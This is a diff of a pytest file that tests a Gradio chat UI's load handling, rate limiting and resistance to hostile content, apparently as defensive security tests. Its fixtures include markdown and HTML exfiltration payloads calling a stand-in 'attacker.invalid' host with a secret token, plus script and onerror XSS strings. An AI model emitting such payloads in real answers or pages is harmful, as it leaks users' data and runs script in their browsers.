@@ -1,8 +1,8 @@
 """Reliability and security cases of the web UI (RELIABILITY.md: S1, S2, S5-S7, L1-L5), against the running app.
 
 Every test serves the real app (ui.app.create_app + launch_options) on a free loopback port
-(tests/ui_server.RunningApp) and talks to it the way the page does: Gradio's HTTP protocol
-(tests/ui_server.GradioSession: run/predict, queue/join + the SSE stream), raw HTTP for
+(tests/gradio_session.RunningApp) and talks to it the way the page does: Gradio's HTTP protocol
+(tests/gradio_session.GradioSession: run/predict, queue/join + the SSE stream), raw HTTP for
 the file routes, or Debian's Chromium driven by Playwright for what the page renders.
 The model is the FakeLLM over HTTP; load tests are bounded loops on loopback with timeouts.
 """
@@ -10,9 +10,7 @@ The model is the FakeLLM over HTTP; load tests are bounded loops on loopback wit
 from __future__ import annotations
 
 import logging
-import os
 import socket
-import sys
 import threading
 import time
 from concurrent.futures import ThreadPoolExecutor
@@ -24,20 +22,10 @@ import httpx
 import pytest
 from pydantic import SecretStr
 
-sys.path.insert(0, os.path.dirname(__file__))
-from ui_server import (  # noqa: E402
-    GradioSession,
-    RunningApp,
-    cite_first_passage,
-    fresh_stack,
-    launch_chromium,
-    open_page,
-    private_assistant,
-)
-
-from assistant import Settings  # noqa: E402
-from assistant.config import PROJECT_DIR  # noqa: E402
-from assistant.errors import ConfigError  # noqa: E402
+from assistant import Settings
+from assistant.config import PROJECT_DIR
+from assistant.errors import ConfigError
+from tests.gradio_session import GradioSession, RunningApp, cite_first_passage, open_page
 
 QUESTION = "What is a variational autoencoder?"
 QUESTIONS = (QUESTION, "How do diffusion models generate images?", "Who created Whisper?", "What is a GAN?")
@@ -53,12 +41,6 @@ EXFIL = ("![logo](http://attacker.invalid/collect?q=SECRET-TOKEN)", '<img src="h
          '<div style="background:url(http://attacker.invalid/css)">styled</div>',
          "![ref-style][exfil]\n\n[exfil]: http://attacker.invalid/ref?q=SECRET-TOKEN")
 SLOW = 60  # seconds: upper bound on any one answer in these tests (a hang fails instead of blocking the run)
-
-
-@pytest.fixture
-def stack():
-    """The shared assistant and FakeLLM (healthy at the start and the end of each test)."""
-    yield from fresh_stack()
 
 
 @contextmanager
@@ -109,7 +91,8 @@ def answered(event) -> bool:
 def test_L1_queue_full_rejects_extra_chats(stack):
     """concurrency 1 + queue 2: with one answer running, a burst of 30 gets 2 places and 28 'queue full'."""
     counted = InFlight(stack.assistant)
-    with serving(stack, counted, ui_concurrency=1, ui_max_queue=2) as app:
+    # Many users on one host (loopback): the per-client cap (L6) is lifted so the queue itself is tested.
+    with serving(stack, counted, ui_concurrency=1, ui_max_queue=2, ui_client_concurrency=100) as app:
         config = httpx.get(app.url + "config").json()
         with GradioSession(app.url, config, timeout=SLOW) as warm:
             assert answered(warm.ask(QUESTION))  # lazy imports and caches are loaded before measuring memory
@@ -155,7 +138,7 @@ def test_L1_queue_full_rejects_extra_chats(stack):
 def test_L2_one_failing_request_does_not_block_the_queue(stack):
     """Among 8 concurrent chats: an LLM 500, an empty question and a malformed request fail alone; the rest answer."""
     stack.fake.set_mode("status", status=500, times=1, delay=0.5)
-    with serving(stack, ui_concurrency=2, ui_max_queue=16) as app:
+    with serving(stack, ui_concurrency=2, ui_max_queue=16, ui_client_concurrency=100) as app:
         config = httpx.get(app.url + "config").json()
         sessions = [GradioSession(app.url, config, timeout=SLOW) for _ in range(8)]
         empty, broken, *askers = sessions
@@ -193,7 +176,7 @@ def test_L2_one_failing_request_does_not_block_the_queue(stack):
 def test_L3_slow_llm_with_10_users_keeps_the_ui_responsive(stack):
     """10 users, 2 workers, 3 s per answer (the 20 s of the case, scaled): page, status and votes answer in < 1 s."""
     counted = InFlight(stack.assistant)
-    with serving(stack, counted, ui_concurrency=2, ui_max_queue=16) as app:
+    with serving(stack, counted, ui_concurrency=2, ui_max_queue=16, ui_client_concurrency=100) as app:
         config = httpx.get(app.url + "config").json()
         with GradioSession(app.url, config, timeout=SLOW) as warm:  # first question: lazy imports, LLM client
             assert answered(warm.ask(QUESTION))
@@ -218,7 +201,7 @@ def test_L3_slow_llm_with_10_users_keeps_the_ui_responsive(stack):
                 status = probe.call("status", [])
                 assert status.ok and "passages" in status.data[0]
                 timings["status"].append(status.seconds)
-                vote = probe.call("lambda_4", [None])
+                vote = probe.call("vote_up", [None])
                 assert vote.ok and "Ask a question first" in vote.data[0]
                 timings["vote"].append(vote.seconds)
                 time.sleep(0.2)
@@ -239,7 +222,7 @@ def test_L3_slow_llm_with_10_users_keeps_the_ui_responsive(stack):
 
 def test_L4_rate_limit_per_client_over_http(stack):
     """The third question in a minute from one client (new tabs included) gets a clear message, no LLM call."""
-    with serving(stack, ui_rate_limit=2) as app:
+    with serving(stack, ui_rate_limit=2, ui_trusted_proxies="127.0.0.1") as app:
         config = httpx.get(app.url + "config").json()
         for _ in range(2):
             with GradioSession(app.url, config, timeout=SLOW) as tab:
@@ -250,7 +233,7 @@ def test_L4_rate_limit_per_client_over_http(stack):
         assert limited.ok and "ga-error" in limited.last
         assert "You have asked 2 questions in the last minute, the limit per client; please wait a moment" in limited.last
         assert "Traceback" not in limited.last and stack.fake.attempts == attempts
-        # Another client (as a reverse proxy on this host names it) keeps its own budget.
+        # Another client (as a trusted reverse proxy on this host names it) keeps its own budget.
         with GradioSession(app.url, config, headers={"X-Forwarded-For": "10.9.9.9"}, timeout=SLOW) as other:
             assert answered(other.ask(QUESTION))
 
@@ -289,7 +272,7 @@ class IngestThread(threading.Thread):
 
 def test_L5_chat_while_ingest_runs_in_the_same_process(stack, tmp_path, caplog):
     """Two tabs chat over HTTP while Assistant.ingest indexes a large file: answered meanwhile, no lock errors, both finish."""
-    assistant, settings = private_assistant(tmp_path / "data")
+    assistant, settings = stack.private_assistant(tmp_path / "data")
     size_before = assistant.index_size
     with RunningApp(assistant, settings.model_copy(update={"ui_concurrency": 2})) as app, \
             caplog.at_level(logging.WARNING):
@@ -477,15 +460,10 @@ S2_DOC = ("# The Zorblax sampler\n\nThe Zorblax sampler is a made-up way to draw
 
 
 @pytest.fixture(scope="module")
-def browser():
-    yield from launch_chromium()
-
-
-@pytest.fixture(scope="module")
-def hostile_app(tmp_path_factory):
+def hostile_app(tmp_path_factory, ui_stack):
     """The app over a private copy of the index to which the two hostile documents were added."""
     root = tmp_path_factory.mktemp("hostile")
-    assistant, settings = private_assistant(root / "data")
+    assistant, settings = ui_stack.private_assistant(root / "data")
     docs = [root / "quillimot.md", root / "zorblax.md"]
     docs[0].write_text(S1_DOC, encoding="utf-8")
     docs[1].write_text(S2_DOC, encoding="utf-8")
@@ -535,11 +513,13 @@ def test_S1_xss_from_the_model_a_document_and_errors_renders_inert(page, stack):
     answer = ask_in_page(page, "What is the Quillimot codec?")
     assert "Quillimot" in answer.inner_text()
     assert '<img src=x onerror="window.__xss=1">' in page.locator("#sources").inner_text()  # shown as text
-    # 2. A question made of payloads that the app refuses (too long) -> error message + the echoed question.
+    # 2. A question made of payloads that the app refuses (too long) -> an error message; the question is not
+    # stored in the chat (L7) but stays in the box, as text, to be shortened.
     ask_in_page(page, " ".join(XSS) * 400)
     error = page.locator("#chat .ga-error").last
     assert "limit" in error.inner_text()
-    assert "<script>window.__xss=1</script>" in page.locator("#chat .ga-user").last.inner_text()
+    assert "<script>window.__xss=1</script>" in page.input_value("#question textarea")
+    page.fill("#question textarea", "")
     # 3. The LLM fails with a payload in its error body -> a clear note, nothing of the body rendered.
     stack.fake.set_mode("status", status=500, message=" ".join(XSS))
     ask_in_page(page, "What is the Quillimot codec?")
